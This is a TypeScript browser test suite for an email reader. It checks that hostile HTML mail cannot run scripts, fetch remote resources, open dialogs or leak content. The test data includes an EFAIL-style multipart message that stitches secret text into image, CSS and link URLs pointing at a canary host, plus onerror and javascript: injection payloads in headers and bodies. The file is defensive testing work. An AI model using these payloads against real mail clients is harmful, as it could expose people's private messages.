import { fileURLToPath } from 'node:url'
import { build } from 'esbuild'
import type { Frame, Page } from 'playwright-core'
import t from 'tap'
import { contentSecurityPolicy } from '../../reader/csp.ts'
import { enterAddress, enterCode, launchBrowser, noBrowser, openPage } from './browser.ts'
import { hostileHtml, openCanary } from './canary.ts'
import { mail, plain } from './mails.ts'
import { openStage } from './stage.ts'

t.test('a hostile message, in a real browser', { skip: noBrowser }, async (t) => {
  t.setTimeout(180_000)
  const stage = await openStage(t)
  const canary = await openCanary(t)
  const browser = await launchBrowser()
  t.teardown(() => browser.close())
  const { page, context, requests } = await openPage(browser)
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await page.goto((await stage.seal(plain)).link)
  const before = stage.house.mails.length
  await enterAddress(page, 'bea@example.org')
  await enterCode(page, await stage.code(before))
  await page.locator('article').waitFor()

  /** Opens a message and gives everything in it time to act. */
  async function show(message: string): Promise<Page> {
    requests.length = 0
    await page.goto((await stage.seal(message)).link)
    await page.locator('article').waitFor()
    await page.waitForTimeout(600)
    return page
  }

  /** What the message did that no message may ever do: nothing, if all is well. */
  async function harm(): Promise<string[]> {
    const own = [stage.origin, stage.copiesOrigin, 'data:', 'about:', 'blob:']
    const hacked = await page.evaluate(() => (window as { hacked?: unknown }).hacked)
    return [
      ...canary.hits.map(({ url }) => `asked for ${url}`),
      ...requests
        .filter((url) => !own.some((origin) => url.startsWith(origin)))
        .map((url) => `tried to ask for ${url}`),
      ...(hacked === undefined ? [] : [`ran script ${hacked}`]),
      ...dialogs.map((words) => `opened a dialog: ${words}`),
      ...(page.url().startsWith(`${stage.origin}/m/`) ? [] : [`led the page to ${page.url()}`]),
    ]
  }

  const html = (...lines: string[]) =>
    mail('From: anna@acme.example', 'Subject: Hello', 'Content-Type: text/html; charset=utf-8', '', ...lines)

  t.test('scripts, remote pictures, forms, styles that phone home and refreshes do nothing', async (t) => {
    await show(html(hostileHtml(canary.origin)))
    t.same(await harm(), [])
    const frame = page.frameLocator('iframe')
    t.ok(await frame.getByText('Visible text').isVisible(), 'the text is still there')
    t.ok(await frame.getByText('[picture]').isVisible(), 'a remote picture gives way to its alternative text')
    t.match(await page.locator('.part > .small').textContent(), /pictures would have to be fetched from the internet/)
    for (const tag of ['script', 'form', 'input', 'iframe', 'object', 'link', 'base', 'svg', 'style', 'video']) {
      t.equal(await frame.locator(`body ${tag}`).count(), 0, `no ${tag} is left`)
    }
    const attributes = await frame
      .locator('body')
      .evaluate((body) => [...body.querySelectorAll('*')].flatMap((one) => one.getAttributeNames()))
    t.same(
      attributes.filter((name) => /^on|^(?:srcset|background|ping|action|formaction|poster|cite)$/.test(name)),
      [],
    )
    t.notMatch(await frame.locator('body').innerHTML(), /url\(|javascript:|data:text/)
  })

  t.test('a link opens a new tab that knows nothing of the page', async (t) => {
    const link = page.frameLocator('iframe').getByText('good link')
    t.equal(
      await link.getAttribute('title'),
      `${canary.origin}/clicked`,
      'its title says where it leads, and nothing else',
    )
    const [tab] = await Promise.all([context.waitForEvent('page'), link.click()])
    await tab.waitForLoadState()
    t.equal(tab.url(), `${canary.origin}/clicked`)
    t.equal(await tab.evaluate(() => window.opener), null)
    t.same(
      canary.hits.filter(({ url }) => url !== '/favicon.ico'),
      [{ url: '/clicked', referer: undefined }],
    )
    await tab.close()
    canary.hits.length = 0
    for (const dead of ['js link', 'data link'])
      t.equal(await page.frameLocator('iframe').getByText(dead).getAttribute('href'), null, dead)
  })

  t.test('parts are documents of their own: nothing is stitched across them (EFAIL)', async (t) => {
    const part = (type: string, ...lines: string[]) => ['--b', `Content-Type: ${type}`, '', ...lines]
    const stitched = mail(
      'From: anna@acme.example',
      'Content-Type: multipart/mixed; boundary=b',
      '',
      ...part('text/html', `<p>first</p><img src="${canary.origin}/?stolen=`),
      ...part('text/plain', 'the secret sentence'),
      ...part('text/html', '"><p>last</p>'),
      ...part('text/html', `<form action="${canary.origin}/"><textarea name="a">`),
      ...part('text/html', `<style>body{background:url('${canary.origin}/?`),
      ...part('text/html', 'another secret'),
      ...part('text/html', `<a href="${canary.origin}/?`),
      ...part('text/html', '">end</a>'),
      '--b--',
    )
    await show(stitched)
    t.same(await harm(), [])
    t.equal(await page.locator('iframe').count(), 7, 'one frame for each HTML part')
    t.equal(await page.locator('.text').textContent(), 'the secret sentence')
    const secrets = await Promise.all(framesOf(page).map((frame) => frame.content()))
    t.notOk(
      secrets.some((content) => content.includes('the secret sentence')),
      'no frame holds another part',
    )
    t.notOk(secrets.some((content) => content.includes('stolen') && content.includes('last')))
  })

  t.test('subject, names and addresses are text', async (t) => {
    const markup = `<img src=${canary.origin}/x onerror=window.hacked=1>`
    await show(
      mail(
        `From: "${markup}" <anna@acme.example>`,
        `To: "${markup}" <bea@example.org>`,
        `Subject: ${markup}`,
        'Content-Type: multipart/mixed; boundary=b',
        '',
        '--b',
        'Content-Type: text/plain',
        '',
        `javascript:alert(1) <b>bold</b> http://example.org/"onmouseover="alert(1)`,
        '--b',
        `Content-Type: application/x-thing; name="${markup.replaceAll('"', '')}"`,
        'Content-Disposition: attachment',
        '',
        'x',
        '--b--',
      ),
    )
    t.same(await harm(), [])
    t.equal(await page.locator('h1').textContent(), markup)
    t.equal(await page.locator('main img').count(), 0)
    t.match(await page.locator('.files .name').textContent(), /^_img src=/)
    t.equal(await page.locator('.text a').getAttribute('href'), 'http://example.org/')
  })

  t.test('even uncleaned, the frame and its gauge alone let no script run and nothing out', async (t) => {
    requests.length = 0
    const script = await frameBundle(hostileHtml(canary.origin))
    const headers = { 'Content-Security-Policy': contentSecurityPolicy([]), 'Content-Type': 'text/html' }
    await page.route('**/m/frame-alone', (route) =>
      route.fulfill({ headers, body: '<!doctype html><body><script type="module" src="/frame.js"></script>' }),
    )
    await page.route('**/frame.js', (route) => route.fulfill({ contentType: 'text/javascript', body: script }))
    await page.goto(`${stage.origin}/m/frame-alone`)
    await page.locator('iframe').first().waitFor()
    t.ok(await page.frameLocator('iframe').getByText('Visible text').isVisible())
    await page.waitForTimeout(600)
    await page.frameLocator('iframe').first().getByText('Send', { exact: true }).click()
    await page.frameLocator('iframe').first().getByText('js link').click()
    await page.waitForTimeout(300)
    // Chromium tells of a request before it refuses it: what counts here is what was asked for.
    t.same(
      (await harm()).filter((one) => !one.startsWith('tried')),
      [],
    )
  })
})

function framesOf(page: Page): Frame[] {
  return page.frames().filter((frame) => frame !== page.mainFrame())
}

/** A script that shows and measures HTML in the message's frames without cleaning it. */
async function frameBundle(html: string): Promise<string> {
  const contents = `
    import { createMessageFrame } from './frame.ts'
    import { createTrusted } from './trusted.ts'
    const html = ${JSON.stringify(html).replaceAll('</script', '<\\/script')}
    const { frame, gauge } = createMessageFrame({ html, remoteImages: 0 }, 'Message', createTrusted())
    document.body.append(frame, gauge)`
  const resolveDir = fileURLToPath(new URL('../../reader', import.meta.url))
  const { outputFiles } = await build({
    stdin: { contents, resolveDir, loader: 'ts' },
    bundle: true,
    write: false,
    format: 'esm',
  })
  return outputFiles[0]?.text ?? ''
}
